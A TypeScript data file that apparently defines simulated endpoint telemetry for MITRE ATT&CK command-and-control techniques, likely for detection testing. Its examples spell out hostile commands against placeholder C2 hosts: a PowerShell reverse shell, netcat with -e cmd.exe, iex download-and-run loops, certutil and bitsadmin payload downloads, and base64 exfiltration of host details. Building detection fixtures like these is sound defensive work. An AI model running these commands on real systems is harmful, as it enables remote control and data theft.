import { t, v } from "../dsl";

/** Command and control: implant traffic and tunnelling tools as they appear on the endpoint. */
export const commandAndControl = [
  t("T1001", "Data obfuscation", "C2 traffic hidden in innocuous-looking requests by the implant.", [
    v("beacon", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 443]], keep: true }], {
      shell: "none",
    }),
  ]),
  t("T1001.001", "Junk data", "An implant padding its HTTP traffic with junk.", [
    v("beacon", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 80]], keep: true }], { shell: "none" }),
  ]),
  t("T1001.002", "Steganography", "C2 commands fetched inside images.", [
    v(
      "image-c2",
      [
        {
          ps: "$img = (New-Object Net.WebClient).DownloadData('https://{{c2}}/logo.png')",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1001.003", "Protocol impersonation", "C2 shaped like a known service's traffic.", [
    v(
      "fake-update",
      [{ cmd: "{{local}}\\Microsoft\\{{name}}.exe", net: [["update-{{c2}}", 443]], keep: true }],
      { shell: "none" },
    ),
  ]),
  t("T1008", "Fallback channels", "An implant trying a second domain after the first fails.", [
    v(
      "fallback",
      [{ cmd: "{{appdata}}\\{{name}}.exe", dns: ["{{c2}}"], net: [["{{c2ip}}", 8443]], keep: true }],
      { shell: "none" },
    ),
  ]),
  t("T1071", "Application layer protocol", "C2 over standard application protocols.", [
    v("https", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 443]], keep: true }], { shell: "none" }),
  ]),
  t("T1071.001", "Web protocols", "HTTP(S) beacons from an implant or a PowerShell loop.", [
    v("implant-https", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 443]], keep: true }], {
      shell: "none",
    }),
    // A hidden polling loop is started by persistence (a Run value at logon), not typed at a prompt.
    v(
      "ps-loop",
      [
        {
          cmd: 'powershell.exe -nop -w hidden -c "while($true){$r=iwr -UseBasicParsing https://{{c2}}/api/v1/{{rand}};iex $r.Content;sleep 60}"',
          parent: "@explorer",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
    v("rundll32-beacon", [
      { cmd: "rundll32.exe {{appdata}}\\{{rand}}.dll,StartW", net: [["{{c2}}", 443]], keep: true },
    ]),
  ]),
  t("T1071.002", "File transfer protocols", "FTP used as a channel with ftp.exe -s script.", [
    v("ftp-script", [{ cmd: "ftp.exe -i -s:{{tmp}}\\{{rand}}.txt {{c2}}", net: [["{{c2}}", 21]] }]),
  ]),
  t("T1071.003", "Mail protocols", "SMTP/IMAP used by an implant for commands.", [
    v("smtp", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["smtp.{{c2}}", 587]] }], { shell: "none" }),
  ]),
  t("T1071.004", "DNS", "DNS tunnelling (dnscat2, iodine) with many TXT queries to one domain.", [
    v("dnscat2", [
      {
        cmd: "{{tools}}\\dnscat2.exe --dns server={{c2ip}},domain={{c2}} --secret={{rand2}}",
        dns: ["a1{{rand}}.{{c2}}", "b2{{rand}}.{{c2}}", "c3{{rand}}.{{c2}}", "d4{{rand}}.{{c2}}"],
      },
    ]),
    v("nslookup-txt", ["nslookup -q=txt {{rand}}.{{c2}}", "nslookup -q=txt {{rand2}}.{{c2}}"]),
    v(
      "dnscat2-ps",
      [
        {
          ps: "Start-Dnscat2 -Domain {{c2}} -DNSServer {{c2ip}}",
          dns: ["{{rand}}.{{c2}}", "{{rand2}}.{{c2}}"],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1071.005", "Publish/subscribe protocols", "MQTT used as a C2 channel.", [
    v("mqtt", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["broker.{{c2}}", 1883]], keep: true }], {
      shell: "none",
    }),
  ]),
  t("T1090", "Proxy", "Traffic relayed through a proxy tool on the host.", [
    v(
      "netsh-portproxy",
      [
        "netsh interface portproxy add v4tov4 listenport=8080 listenaddress=0.0.0.0 connectport=443 connectaddress={{c2ip}}",
      ],
      { elevated: true },
    ),
  ]),
  t("T1090.001", "Internal proxy", "netsh portproxy or a SOCKS tool relaying inside the network.", [
    v(
      "netsh-portproxy",
      [
        {
          cmd: "netsh interface portproxy add v4tov4 listenport=4444 listenaddress=0.0.0.0 connectport=3389 connectaddress={{srvip}}",
          reg: [
            [
              "HKLM\\SYSTEM\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp",
              "0.0.0.0/4444",
              "{{srvip}}/3389",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
    v("chisel", [{ cmd: "{{tools}}\\chisel.exe client {{c2}}:443 R:socks", net: [["{{c2}}", 443]] }]),
  ]),
  t("T1090.002", "External proxy", "Traffic sent through a public proxy/VPS.", [
    v("proxychains", [
      { cmd: "{{tools}}\\{{name}}.exe --proxy socks5://{{c2ip}}:1080", net: [["{{c2ip}}", 1080]] },
    ]),
  ]),
  t("T1090.003", "Multi-hop proxy", "Tor started on the host.", [
    v("tor", [{ cmd: "{{appdata}}\\tor\\tor.exe", net: [["{{c2ip}}", 9001]], keep: true }]),
    // Tor Browser: the user starts firefox.exe, which runs the bundled tor.exe with its control and SOCKS ports.
    v(
      "tor-browser",
      [
        {
          cmd: '"{{home}}\\Desktop\\Tor Browser\\Browser\\firefox.exe" ',
          as: "ff",
          parent: "@explorer",
          keep: true,
        },
        {
          cmd: '"{{home}}\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor\\tor.exe" -f "{{home}}\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Data\\Tor\\torrc" DataDirectory "{{home}}\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Data\\Tor" +__ControlPort 127.0.0.1:9151 +__SocksPort "127.0.0.1:9150 IPv6Traffic PreferIPv6 KeepAliveIsolateSOCKSAuth" __OwningControllerProcess {pid:ff}',
          parent: "ff",
          net: [["{{c2ip}}", 443]],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1090.004", "Domain fronting", "HTTPS to a CDN with a different Host header.", [
    v("fronted", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["ajax.aspnetcdn.com", 443]], keep: true }], {
      shell: "none",
    }),
  ]),
  t("T1092", "Communication through removable media", "Commands staged on a USB drive.", [
    v("usb", [
      { cmd: "cmd.exe /c copy E:\\{{rand}}.dat {{appdata}}\\", files: ["{{appdata}}\\{{rand}}.dat"] },
    ]),
  ]),
  t("T1095", "Non-application layer protocol", "Raw TCP reverse shells (netcat, PowerShell TcpClient).", [
    v("ncat", [{ cmd: "{{tools}}\\nc64.exe {{c2ip}} {{port}} -e cmd.exe", net: [["{{c2ip}}", 4444]] }]),
    v(
      "ps-tcpclient",
      [
        {
          ps: "$c = New-Object System.Net.Sockets.TCPClient('{{c2ip}}',4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){;$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0, $i);$sb = (iex $d 2>&1 | Out-String )}",
          net: [["{{c2ip}}", 4444]],
        },
      ],
      { shell: "ps" },
    ),
    v("icmp", ["{{tools}}\\icmpsh.exe -t {{c2ip}}"]),
  ]),
  t("T1102", "Web service", "C2 through a legitimate web service API.", [
    v(
      "pastebin",
      [
        {
          ps: "iex (iwr -UseBasicParsing https://pastebin.com/raw/{{rand}}).Content",
          net: [["pastebin.com", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1102.001", "Dead drop resolver", "C2 address read from a public page.", [
    v(
      "github-gist",
      [
        {
          ps: "$u = (iwr https://gist.githubusercontent.com/{{rand}}/raw/c2.txt).Content",
          net: [["gist.githubusercontent.com", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1102.002", "Bidirectional communication", "Commands and results through Telegram/Discord/Graph APIs.", [
    v("telegram", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["api.telegram.org", 443]], keep: true }], {
      shell: "none",
    }),
    v("discord", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["discord.com", 443]], keep: true }], {
      shell: "none",
    }),
  ]),
  t("T1102.003", "One-way communication", "Commands read from a web page without replies.", [
    v(
      "read-page",
      [
        {
          ps: "iex (iwr https://docs.google.com/document/d/{{rand2}}/export?format=txt).Content",
          net: [["docs.google.com", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1104", "Multi-stage channels", "A first-stage loader fetching a second stage from another host.", [
    v("stager", [
      { cmd: "{{tmp}}\\{{rand}}.exe", as: "s1", net: [["{{c2}}", 443]] },
      { cmd: "{{appdata}}\\{{name}}.exe", parent: "s1", net: [["cdn-{{c2}}", 443]] },
    ]),
  ]),
  t("T1105", "Ingress tool transfer", "Tools downloaded with certutil, bitsadmin, curl, Invoke-WebRequest.", [
    v("certutil-urlcache", [
      {
        cmd: "certutil.exe -urlcache -split -f http://{{c2}}/{{rand}}.exe C:\\Users\\Public\\{{rand}}.exe",
        net: [["{{c2}}", 80]],
        files: ["C:\\Users\\Public\\{{rand}}.exe"],
      },
    ]),
    v("curl", [
      {
        cmd: "curl.exe -k -o {{tmp}}\\{{rand}}.exe https://{{c2}}/{{rand}}.exe",
        net: [["{{c2}}", 443]],
        files: ["{{tmp}}\\{{rand}}.exe"],
      },
    ]),
    v(
      "invoke-webrequest",
      [
        {
          ps: "Invoke-WebRequest -Uri https://{{c2}}/{{rand}}.zip -OutFile $env:TEMP\\{{rand}}.zip",
          net: [["{{c2}}", 443]],
          files: ["{{tmp}}\\{{rand}}.zip"],
        },
      ],
      { shell: "ps" },
    ),
    v("bitsadmin", [
      {
        cmd: "bitsadmin /transfer job /download /priority normal http://{{c2}}/{{rand}}.exe C:\\ProgramData\\{{rand}}.exe",
        net: [["{{c2}}", 80]],
      },
    ]),
  ]),
  t("T1132", "Data encoding", "Base64-encoded C2 traffic.", [
    v(
      "b64-post",
      [
        {
          ps: "$d = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes((whoami))); iwr -Method Post -Uri https://{{c2}}/c -Body $d",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1132.001", "Standard encoding", "Base64 in URLs and bodies.", [
    v(
      "b64-get",
      [
        {
          ps: 'iwr "https://{{c2}}/q?d=$([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:COMPUTERNAME)))"',
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1132.002", "Non-standard encoding", "A custom alphabet used by the implant.", [
    v("implant", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 443]], keep: true }], {
      shell: "none",
    }),
  ]),
  t(
    "T1219",
    "Remote access tools",
    "Legitimate RMM software installed for access (AnyDesk, ScreenConnect, TeamViewer).",
    [
      v(
        "anydesk",
        [
          {
            cmd: '"C:\\ProgramData\\AnyDesk.exe" --install "C:\\ProgramData\\AnyDesk" --start-with-win --silent',
            net: [["relay-{{rand}}.net.anydesk.com", 443]],
          },
        ],
        { elevated: true },
      ),
      v(
        "screenconnect",
        [
          {
            cmd: 'msiexec.exe /i "{{downloads}}\\ScreenConnect.ClientSetup.msi" /qn',
            net: [["instance-{{rand}}-relay.screenconnect.com", 443]],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1219.001", "IDE tunneling", "VS Code tunnels exposing the host.", [
    v("code-tunnel", [
      {
        cmd: "{{tmp}}\\code.exe tunnel --accept-server-license-terms --name {{me}}",
        net: [["global.rel.tunnels.api.visualstudio.com", 443]],
      },
    ]),
  ]),
  t("T1219.002", "Remote desktop software", "AnyDesk, TeamViewer, Atera, Splashtop installed silently.", [
    v(
      "anydesk",
      [
        {
          cmd: "cmd.exe /c echo P@ss{{n}} | C:\\ProgramData\\AnyDesk.exe --set-password",
          net: [["boot.net.anydesk.com", 443]],
        },
      ],
      { elevated: true },
    ),
    v(
      "teamviewer",
      [
        {
          cmd: '"C:\\Program Files\\TeamViewer\\TeamViewer.exe" assign --api-token {{rand2}} --grant-easy-access',
          net: [["router{{n}}.teamviewer.com", 443]],
        },
      ],
      { elevated: true },
    ),
    v("atera", ["msiexec /i {{tmp}}\\setup.msi /qn IntegratorLogin={{rand}}@proton.me CompanyId=1"], {
      elevated: true,
    }),
  ]),
  t("T1219.003", "Remote access hardware", "A KVM/IP device attached; host sees a new USB HID.", [
    v("pnp", ["pnputil /enum-devices /class Keyboard"]),
  ]),
  t("T1568", "Dynamic resolution", "Implant resolving algorithmically chosen domains.", [
    v(
      "dga",
      [
        {
          cmd: "{{appdata}}\\{{name}}.exe",
          dns: ["{{rand2}}.com", "{{rand}}{{rand}}.net", "{{rand2}}.biz"],
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1568.001", "Fast flux DNS", "A domain with rapidly changing answers queried repeatedly.", [
    v("flux", [{ cmd: "{{appdata}}\\{{name}}.exe", dns: ["{{c2}}", "{{c2}}", "{{c2}}"] }], { shell: "none" }),
  ]),
  t("T1568.002", "Domain generation algorithms", "Many NXDOMAIN lookups of random-looking names.", [
    v(
      "dga",
      [
        {
          cmd: "{{appdata}}\\{{name}}.exe",
          then: ["a", "b", "c", "d", "e", "f"].map((x, n) => ({
            id: `q${n}`,
            kind: "dns.query" as const,
            name: `${x}{{rand2}}{{rand}}.com`,
            status: 9003,
          })),
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1568.003", "DNS calculation", "The C2 port derived from a resolved address.", [
    v("calc", [{ cmd: "{{appdata}}\\{{name}}.exe", dns: ["{{c2}}"], net: [["{{c2ip}}", 8081]] }], {
      shell: "none",
    }),
  ]),
];
